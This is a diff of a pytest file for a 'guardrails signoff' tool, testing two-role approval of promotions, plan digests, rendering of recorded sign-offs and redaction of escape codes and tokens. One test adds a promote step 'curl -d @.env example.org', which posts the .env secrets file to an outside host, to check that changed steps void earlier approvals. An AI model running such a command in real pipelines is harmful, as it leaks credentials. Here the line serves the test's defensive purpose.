@@ -1,10 +1,13 @@
 """`guardrails signoff` from outside: two people in two roles let a promotion through, and a rejection stops it."""
 
+import json
+import time
 from pathlib import Path
 
 import pytest
 
-from dirty_repository import git
+from dirty_repository import git, snapshot
+from guardrails.facts.signoff_blocks import SignOffBlock, blocks
 from signers import Signers
 from small_world import RELEASE, SmallWorld, outcomes, small_world
 
@@ -32,10 +35,17 @@ def approved(world: SmallWorld) -> str:
 def test_each_role_must_approve_this_commit(world: SmallWorld) -> None:
     assert approved(world) == "fail"
     printed = say(world, "architect-1", "approved", "--signer", "one@example.org")
-    assert printed.startswith(
-        f"architect-1: approved {git(world.dev, 'rev-parse', RELEASE)}\nrecorded as refs/signoffs/"
-    )
-    assert "nobody signed it" in printed
+    commit = git(world.dev, "rev-parse", RELEASE)
+    *said, recorded = printed.splitlines()
+    assert said == [
+        f"architect-1: approved {commit}",
+        "  subject      one more",
+        "  environment  prod",
+        "  operation    promote",
+        f"  plan         {world.plan(commit)}",
+    ]
+    assert recorded.startswith(f"recorded as refs/signoffs/{commit}/architect-1/")
+    assert recorded.endswith("nobody signed it, so it counts only where [trust] has no allowed_signers")
     assert approved(world) == "fail"
     say(world, "architect-2", "approved", "--signer", "two@example.org")
     assert approved(world) == "pass"
@@ -62,3 +72,124 @@ def test_what_makes_no_sense_is_one_line_and_2(world: SmallWorld, wrong: tuple[s
     done = world.run("signoff", *words)
 
     assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)
+
+
+def test_what_is_approved_is_what_the_plan_shows(world: SmallWorld) -> None:
+    plan = world.run("plan", "promote", "--env", "prod", "--candidate", RELEASE)
+    printed = say(world, "architect-1", "approved", "--signer", "one@example.org", "--op", "promote")
+    (digest,) = (line.split()[1] for line in printed.splitlines() if line.startswith("  plan "))
+    assert f"plan      {digest}\n" in plan.stdout
+    report = json.loads(
+        world.run("plan", "promote", "--env", "prod", "--candidate", RELEASE, "--format", "json").stdout
+    )
+    assert report["digest"] == digest
+
+
+def test_other_steps_need_other_approvals(world: SmallWorld) -> None:
+    for number in (1, 2):
+        say(world, f"architect-{number}", "approved", "--signer", f"{number}@example.org")
+    assert approved(world) == "pass"
+    world.configure('[operations.promote]\nsteps = ["git merge --ff-only {candidate}", "curl -d @.env example.org"]\n')
+    (result,) = (one for one in world.report(*PROMOTE)["results"] if one["policy"] == "required-signoffs")
+    assert result["outcome"] == "fail"
+    assert "it approves another plan (steps or operation have changed)" in result["findings"][0]["observed"]
+    for number in (1, 2):
+        say(world, f"architect-{number}", "approved", "--signer", f"{number}@example.org")
+    assert approved(world) == "pass"
+
+
+def test_which_operation_is_asked_where_it_is_not_clear(world: SmallWorld) -> None:
+    words = ("signoff", "--role", "architect-1", "--commit", RELEASE, "--decision", "approved", "--signer", "a")
+    done = world.run(*words, "--env", "dev")
+    assert (done.returncode, done.stderr) == (
+        2, "guardrails: for which operation in dev? add --op; none would do\n",
+    )  # fmt: skip
+    world.configure('[operations.hotfix]\nenvironment = "prod"\ncandidate_from = "dev"\nmoves_head_to = "candidate"\n')
+    done = world.run(*words, "--env", "prod")
+    assert (done.returncode, done.stderr) == (
+        2, "guardrails: for which operation in prod? add --op; hotfix, promote would do\n",
+    )  # fmt: skip
+    done = world.run(*words, "--env", "prod", "--op", "hotfix")
+    assert (done.returncode, "  operation    hotfix\n" in done.stdout) == (0, True)
+    assert approved(world) == "fail"
+    done = world.run(*words, "--env", "prod", "--op", "promtoe")
+    assert (done.returncode, done.stderr) == (2, "guardrails: unknown operation promtoe; did you mean promote?\n")
+
+
+def render(world: SmallWorld) -> tuple[list[SignOffBlock], str]:
+    """The blocks that are printed, read again, and what is said beside them."""
+    before = snapshot(world.prod, world.dev)
+    done = world.run("signoff", "--env", "prod", "--commit", RELEASE, "--render")
+    assert (done.returncode, snapshot(world.prod, world.dev)) == (0, before)
+    return list(blocks(done.stdout, "it")), done.stderr
+
+
+def test_a_page_of_what_was_recorded(world: SmallWorld, tmp_path: Path) -> None:
+    signers = Signers(tmp_path / "keys")
+    world.configure(
+        f'[trust]\nallowed_signers = "{signers.allow("one", "two", "ci")}"\n'
+        "[policies.required-signoffs]\n"
+        'roles = { architect-1 = ["one@example.org"], architect-2 = ["two@example.org"] }\n'
+    )
+    commit = git(world.dev, "rev-parse", RELEASE)
+    assert render(world) == ([], f"guardrails: no sign-off of {commit} counts\n")
+    say(
+        world,
+        "architect-1",
+        "approved",
+        "--key",
+        signers.key("one").path,
+        "--signer",
+        "x",
+        "--notes",
+        "Всё\n```\nгotово",
+    )
+    say(world, "architect-2", "rejected", "--key", signers.key("two").path, "--signer", "x", "--after", "architect-1")
+    say(world, "architect-2", "approved", "--key", signers.key("ci").path, "--signer", "two@example.org")
+    say(world, "architect-2", "approved", "--signer", "two@example.org")
+    (one, two), said = render(world)
+    today = time.strftime("%Y-%m-%d", time.gmtime())
+    assert (one.role, one.status, one.owner, one.commit) == ("architect-1", "approved", "one@example.org", commit)
+    assert (two.role, two.status, two.owner, two.after) == (
+        "architect-2", "rejected", "two@example.org", ("architect-1",),
+    )  # fmt: skip
+    assert {one.date, two.date} == {today}
+    assert git(world.dev, "cat-file", "-t", one.statement) == "blob"
+    assert "ci@example.org does not speak for architect-2\n" in said
+    assert "nobody signed it\n" in said
+    assert said.count("\n") == 2
+
+
+def test_a_page_of_what_anybody_may_have_said_is_called_so(world: SmallWorld) -> None:
+    say(world, "architect-1", "approved", "--signer", "one@example.org")
+    (one,), said = render(world)
+    assert one.owner == "one@example.org"
+    assert said == "guardrails: nobody need sign, so anybody may have said so: [trust] has no allowed_signers\n"
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        ("--role", "a"),
+        ("--decision", "approved"),
+        ("--after", "a"),
+        ("--notes", "x"),
+        ("--signer", "x"),
+        ("--commit", "none"),
+    ],
+)
+def test_what_does_not_go_with_a_page(world: SmallWorld, more: tuple[str, str]) -> None:
+    done = world.run("signoff", "--env", "prod", "--commit", RELEASE, "--render", *more)
+    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)
+
+
+def test_a_role_and_a_decision_must_be_given(world: SmallWorld) -> None:
+    done = world.run("signoff", "--env", "prod", "--commit", RELEASE, "--role", "architect-1")
+    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)
+    assert "--decision must be given, or --render" in done.stderr
+
+
+def test_a_subject_is_only_text(world: SmallWorld) -> None:
+    git(world.dev, "commit", "-q", "--allow-empty", "-m", "\x1b[31mapproved\x1b[0m token=canary-1234")
+    printed = say(world, "architect-1", "approved", "--signer", "a")
+    assert r"  subject      \x1b[31mapproved\x1b[0m token=***" in printed
